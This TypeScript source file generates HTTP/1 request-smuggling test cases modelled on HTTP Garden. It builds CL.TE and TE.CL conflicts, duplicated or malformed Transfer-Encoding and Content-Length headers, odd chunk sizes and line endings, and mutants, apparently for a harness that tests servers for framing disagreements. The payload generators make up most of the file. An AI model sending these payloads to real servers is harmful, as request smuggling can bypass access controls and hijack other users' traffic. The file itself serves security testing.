// Request smuggling in HTTP/1: two readers of the same bytes that disagree on where a request ends. The grammar follows the mutations of
// HTTP Garden (Narf Industries): lengths, encodings, chunk sizes, line ends, header names and values, versions; and random mutants.
import { APP_HOST, type Attack, bytesOf, http1, SMUGGLED, visible } from "./attack.ts";
import { CHUNK_ENDS, CHUNK_HEADS, LAST_CHUNKS } from "./chunks.ts";
import { ENCODINGS, LENGTH_LINES, LENGTHS, NAMES } from "./length-headers.ts";
import { mutants } from "./mutants.ts";
import { CARRIERS, REQUESTS } from "./smuggling-requests.ts";

const CHUNKED = "chunked";
const END = "0\r\n\r\n";

const HOST_LINES = `Host: ${APP_HOST}\r\nConnection: close\r\nX-Case: ID\r\n`;

export const framing: readonly Attack[] = [
  ...ENCODINGS.flatMap((value) => encodings(`Transfer-Encoding: ${value}`)),
  ...NAMES.flatMap((name) => encodings(`${name}: ${CHUNKED}`)),
  ...[
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
  ].flatMap(encodings),
  ...LENGTHS.map((value) => length(`Content-Length: ${value}`)),
  ...LENGTH_LINES.map(length),
  ...CHUNK_HEADS.flatMap((head) => [
    chunks(`chunk ${head}`, `${head}\r\nSMUGGLED\r\n${END}`),
    chunks(`second chunk ${head}`, `1\r\nx\r\n${head}\r\nSMUGGLED\r\n${END}`),
  ]),
  ...CHUNK_ENDS.map((end) => chunks(`chunk that ends in ${end}`, `{H}\r\nSMUGGLED${end}${END}`)),
  ...CHUNK_ENDS.map((end) => chunks(`chunk too short, then ${end}`, `3\r\nSMUGGLED${end}${END}`)),
  ...LAST_CHUNKS.map((last) => chunks(`last chunk ${last}`, `1\r\nx\r\n${last}SMUGGLED`)),
  ...REQUESTS.map((text) => raw(text.replaceAll("CASE", "").slice(0, 80), text)),
  ...CARRIERS.map(([name, text]) => raw(name, text)),
  ...mutants(raw),
];

/** Both orders of the two lengths, with the length before and after the encoding. */
function encodings(line: string): readonly Attack[] {
  return (["first", "last"] as const).flatMap((place) => {
    const lines = (length: number) => {
      const announced = `Content-Length: ${length}\r\n`;
      return place === "first" ? `${announced}${line}\r\n` : `${line}\r\n${announced}`;
    };
    const chunk = (id: string) => `${hex(id)}\r\n${smuggled(id)}\r\n${END}`;
    return [
      framed(`CL.TE, length ${place}: ${line}`, (id) => [
        lines(END.length + smuggled(id).length),
        `${END}SMUGGLED`,
      ]),
      framed(`TE.CL, length ${place}: ${line}`, (id) => [lines(hex(id).length + 2), chunk(id)]),
      ...(place === "first" ? [framed(`no length: ${line}`, (id) => [`${line}\r\n`, chunk(id)])] : []),
    ];
  });
}

function length(lines: string): Attack {
  return framed(lines, (id) => [`${numbered(lines, id)}\r\n`, "SMUGGLED"]);
}

function chunks(name: string, body: string): Attack {
  return framed(name, (id) => ["Transfer-Encoding: chunked\r\n", numbered(body, id)]);
}

function raw(name: string, text: string): Attack {
  return {
    kind: "framing",
    name: visible(name),
    bytes: (id) => bytesOf(numbered(text.replaceAll("HOST", HOST_LINES).replace("ID", id), id), id),
  };
}

function framed(name: string, parts: (id: string) => readonly [headers: string, body: string]): Attack {
  return {
    kind: "framing",
    name: visible(name),
    bytes: (id) => {
      const [headers, body] = parts(id);
      return http1(id, { method: "POST", headers, body });
    },
  };
}

function smuggled(id: string): string {
  return bytesOf(SMUGGLED, id).toString("latin1");
}

function hex(id: string): string {
  return smuggled(id).length.toString(16);
}

/** `{N}` and `{H}` are the length of the smuggled request, decimal and hexadecimal. */
function numbered(text: string, id: string): string {
  return text.replaceAll("{N}", `${smuggled(id).length}`).replaceAll("{H}", hex(id));
}
